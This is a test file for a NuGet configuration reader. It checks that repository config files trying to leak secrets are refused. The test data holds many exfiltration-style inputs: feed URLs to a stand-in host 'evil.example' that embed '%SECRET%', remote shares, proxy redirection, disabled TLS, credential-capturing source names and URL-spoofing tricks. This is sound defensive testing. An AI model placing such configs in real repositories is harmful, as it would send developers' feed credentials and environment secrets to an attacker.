import { readSettings } from "../../../../plugins/dotnet/feed/settings.ts";
import { originOf } from "../../../../plugins/dotnet/feed/repository-config.ts";
import { expand } from "../../../../plugins/dotnet/feed/config-files.ts";
import { readBounded } from "../../../../src/io/files.ts";
import { temporaryFolder } from "../../../support/folder.ts";
import { writeFiles } from "../../../support/nuget/project.ts";
import { realpathSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";

const ENV = { SECRET: "s3cret", NuGetPackageSourceCredentials_ci: "Username=any;Password=s3cret", EMPTY: "" };
const add = (key: string, value: string, more = "") => `<add key="${key}" value="${value}" ${more}/>`;
const sources = (...items: string[]) => `<packageSources>${items.join("")}</packageSources>`;
const credentials = (name: string, password: string) =>
  `<packageSourceCredentials><${name}>${add("Username", "u")}${add("ClearTextPassword", password)}</${name}></packageSourceCredentials>`;
const file = (...sections: string[]) => `<configuration>${sections.join("")}</configuration>`;

const OWN = file(
  sources(add("corp", "https://corp.example/v3/index.json"), add("other", "https://other.example/index.json")),
  credentials("corp", "of the user"),
);

async function read(text: string, where = "repository/a/nuget.config", env: Readonly<Record<string, string>> = ENV) {
  const folder = realpathSync(temporaryFolder());
  writeFiles(folder, { "home/.nuget/NuGet/NuGet.Config": OWN, "repository/a/b/.keep": "", [where]: text });
  const around = { repositoryRoot: join(folder, "repository"), registries: ["https://policy.example"] };
  const host = { env: { HOME: join(folder, "home"), ...env }, read: readBounded };
  return readSettings(join(folder, "repository", "a", "b"), around, host);
}

const EVIL = "https://evil.example/index.json";
const certificate = (name: string) =>
  `<clientCertificates><fileCert packageSource="${name}" path="/p" /></clientCertificates>`;

describe("a NuGet.config of the repository", () => {
  it.each([
    ["a variable in an address", file(sources(add("x", "https://evil.example/%SECRET%/index.json")))],
    ["a variable that is the host", file(sources(add("x", "https://%SECRET%.corp.example/index.json")))],
    ["a variable behind a percent sign", file(sources(add("x", "https://evil.example/%20%SECRET%")))],
    ["a share of another machine", file(sources(add("x", "\\\\evil.example\\%SECRET%")))],
    ["a file of another machine", file(sources(add("x", "file://evil.example/%SECRET%")))],
    [
      "an attribute that is spelled in two ways",
      file(sources(`<add key="x" VALUE="https://corp.example" value="https://evil.example/%SECRET%" />`)),
    ],
    ["a source that it disables again", file(sources(add("x", "https://evil.example/%SECRET%"), "<clear />"))],
    ["a source of audits", file(`<auditSources>${add("x", "https://evil.example/%SECRET%")}</auditSources>`)],
    ["a variable in a password", file(sources(add("x", EVIL)), credentials("x", "%SECRET%"))],
    ["a variable in a password for nobody", file(sources(add("y", EVIL)), credentials("x", "%SECRET%"))],
    ["the name of a source of the user's", file(sources(add("corp", EVIL)))],
    ["that name in another case", file(sources(add("CORP", EVIL)))],
    ["that name for another source of the user's", file(sources(add("corp", "https://other.example/index.json")))],
    ["that name without TLS", file(sources(add("corp", "http://corp.example/v3/index.json")))],
    ["a name that the environment has credentials for", file(sources(add("ci", EVIL)))],
    ["a certificate of the user's", file(sources(add("x", EVIL)), certificate("x"))],
    ["a proxy", file(`<config>${add("http_proxy", "https://evil.example")}</config>`)],
    ["a proxy's password", file(`<config>${add("http_proxy.password", "%SECRET%")}</config>`)],
    ["no TLS", file(sources(add("corp", EVIL, 'disableTLSCertificateValidation="true"')))],
    ["an item in other letters", file(sources(`<ADD key="x" value="https://evil.example/%SECRET%" />`))],
    [
      "a section in other letters",
      `<Configuration><Config>${add("http_proxy", "https://evil.example")}</Config></Configuration>`,
    ],
    ["a section that is there twice", file(sources(), sources(add("corp", "https://corp.example/v3/index.json")))],
    ["an item that no version knows", file(sources(`<remove key="corp" />`))],
    ["a name that is there twice", file(sources(add("new", EVIL), add("New", "https://corp.example/v3/index.json")))],
    ["blanks around a name", file(sources(add(" corp ", "https://corp.example/v3/index.json")))],
    ["blanks around an address", file(sources(add("corp", " https://corp.example/v3/index.json")))],
    [
      "a password's item in other letters",
      file(sources(add("x", EVIL)), credentials("x", "%SECRET%").replaceAll("<add", "<ADD")),
    ],
  ])("%s: refused, without the secret", async (_, text) => {
    const refused = await read(text).then(String, (error: Error) => error);
    expect(refused).toMatchObject({ code: "REPOSITORY_NUGET_CONFIG" });
    expect(JSON.stringify(refused) + String(refused)).not.toContain("s3cret");
  });

  it("above the repository is no better: it may be a clone around it", () =>
    expect(read(file(sources(add("corp", EVIL))), "nuget.config")).rejects.toMatchObject({
      code: "REPOSITORY_NUGET_CONFIG",
    }));

  it.each([
    ["a feed and a password of its own", file(sources(add("x", EVIL)), credentials("x", "public"))],
    ["the user's name for the user's origin", file(sources(add("corp", "https://corp.example/v2/index.json")))],
    ["a name without stored credentials", file(sources(add("other", EVIL)))],
    ["a variable for an origin of the user's", file(sources(add("x", "https://corp.example/%SECRET%/index.json")))],
    ["a variable that is one", file(sources(add("x", "%FEED%/index.json")))],
    ["a password for one", file(sources(add("x", "https://other.example/i.json")), credentials("x", "%SECRET%"))],
    [
      "a password for one of the policy's",
      file(sources(add("x", "https://policy.example/i")), credentials("x", "%SECRET%")),
    ],
    ["the environment's credentials for one", file(sources(add("ci", "https://policy.example/i")))],
    ["what only looks like a variable", file(sources(add("x", "https://evil.example/My%20Project/My%20Feed")))],
    ["a folder", file(sources(add("x", "%SECRET%/feed"), add("corp", "./feed"), add("y", "file:///%SECRET%")))],
    ["a certificate for one of the user's", file(certificate("corp"))],
  ])("%s: is what it is for", async (_, text) => {
    await expect(read(text, undefined, { ...ENV, FEED: "https://corp.example" })).resolves.toBeDefined();
  });
});

describe("%NAME%", () => {
  it.each([
    ["%SECRET%", "s3cret"],
    ["a%SECRET%b%SECRET%", "as3cretbs3cret"],
    ["%20%SECRET%", "%20s3cret"],
    ["%%SECRET%%", "%s3cret%"],
    ["a%EMPTY%b", "ab"],
    ["%NONE%", "%NONE%"],
    ["100%", "100%"],
    ["", ""],
  ])("%s is expanded as .NET does it", (text, expanded) => expect(expand(text, ENV)).toBe(expanded));
});

describe("the origin of a source", () => {
  it.each([
    ["https://Feed.example:443/v3/index.json", "https://feed.example"],
    ["http://127.0.0.1:5000/index.json", "http://127.0.0.1:5000"],
    ["/srv/feed", null],
    ["..\\feed", null],
    ["C:\\feed", null],
    ["file:///srv/feed", null],
  ])("%s: %s", (address, origin) => expect(originOf(address)).toBe(origin));

  it.each([
    "//evil.example/share",
    "\\\\evil.example\\share",
    "file://evil.example/share",
    "https://corp.example\\@evil.example/",
    "https://corp.example@evil.example/",
    "https://evil\u3002example/",
    "ftp://corp.example/",
    "https://",
  ])("%s is nobody's", (address) => expect(originOf(address)).toBe(address));
});
